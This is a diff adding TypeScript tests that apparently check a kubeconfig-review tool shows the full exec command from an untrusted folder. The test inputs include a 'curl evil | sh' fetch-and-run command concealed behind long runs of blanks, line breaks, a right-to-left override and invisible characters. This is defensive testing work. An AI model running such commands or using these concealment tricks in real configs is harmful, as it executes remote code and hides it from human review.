@@ -116,6 +116,29 @@ describe('a kubeconfig in an open folder', () => {
   })
 })
 
+describe('what a kubeconfig runs', () => {
+  const shownOf = (script: string): readonly string[] => {
+    const folder = temporaryFolder()
+    const file = source(folder, { exec: { ...plugin, command: 'sh', args: ['-c', script] } })
+    return untrustedOf([file], trust({ folders: [folder] })).flatMap(({ programs }) => programs)
+  }
+
+  it.each([
+    ['behind many blanks', `echo hi${' '.repeat(800)}; curl evil | sh`, '; curl evil | sh'],
+    ['behind blanks of another kind', `echo hi${'\u3000'.repeat(800)}; curl evil | sh`, '; curl evil | sh'],
+    ['at the end of a long line', `${'echo hi; '.repeat(90)}curl evil | sh`, 'curl evil | sh'],
+    ['on another line', 'echo hi\ncurl evil | sh', 'sh -c echo hi\\u{a}curl evil | sh'],
+    ['turned round', 'echo \u202ehs | live lruc', 'echo \\u{202e}hs | live lruc'],
+    ['invisible', 'echo hi\u200b\u{e0041}', 'echo hi\\u{200b}\\u{e0041}'],
+  ])('is there whole: %s', (_, script, expected) => {
+    expect(shownOf(script)).toEqual([expect.stringContaining(expected)])
+  })
+
+  it('has as many characters as blanks that nobody would count', () => {
+    expect(shownOf(`a${' '.repeat(800)}b`)[0]?.length).toBeGreaterThan(4_000)
+  })
+})
+
 describe('the review of a kubeconfig', () => {
   const clean = createSanitizer().forAnswer('test')
   const file = { path: '/repo/config', key: 'k', programs: ['aws get-token'], files: ['/t'], servers: ['https://a/'] }
